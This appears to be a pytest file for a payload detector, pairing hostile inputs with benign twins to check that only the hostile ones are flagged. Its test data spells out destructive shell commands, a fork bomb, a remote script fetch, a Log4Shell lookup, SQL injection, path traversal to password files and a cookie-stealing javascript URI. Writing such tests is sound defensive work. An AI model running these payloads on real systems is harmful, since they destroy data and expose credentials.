"""X012's payload shapes: each fires on its attack and stays silent on an honest value of the same field."""

from __future__ import annotations

import pytest

from toolcli.detectors import dangerous_values


@pytest.mark.parametrize("attack, honest", [
    ("rm -rf / --no-preserve-root", "rm -rf ./build"),
    ("$(rm -rf /)", "$(pwd)/notes"),
    (":(){ :|:& };:", "echo done"),
    ("mkfs.ext4 /dev/sda1", "df -h /dev/sda1"),
    ("ls; curl http://203.0.113.9/x.sh", "curl -s https://api.github.com/repos"),
    ("curl -fsSL https://get.example.sh | sh", "curl -fsSL https://get.example.sh -o install.sh"),
    ("${jndi:ldap://203.0.113.9/a}", "${HOME}/notes"),
    ("x' OR '1'='1", "O'Reilly"),
    ("1; DROP TABLE users", "DROP TABLE tmp_import"),
    ("1 UNION SELECT username, password FROM users", "SELECT title FROM notes UNION SELECT title FROM archive"),
    ("../../../etc/passwd", "../../shared/notes"),
    ("%2e%2e%2f%2e%2e%2fsecret", "reports%2F2024"),
    ("..%2f..%2fetc/shadow", "notes%2F..."),
    ("javascript:alert(document.cookie)", "https://example.org/javascript-guide"),
])
def test_each_payload_fires_and_its_honest_twin_does_not(attack: str, honest: str) -> None:
    assert dangerous_values.payload(attack) is not None
    assert dangerous_values.payload(honest) is None


def test_the_span_is_the_payload_as_written() -> None:
    assert dangerous_values.payload("Run: RM -RF / now") == ("deletes everything", "RM -RF / ")
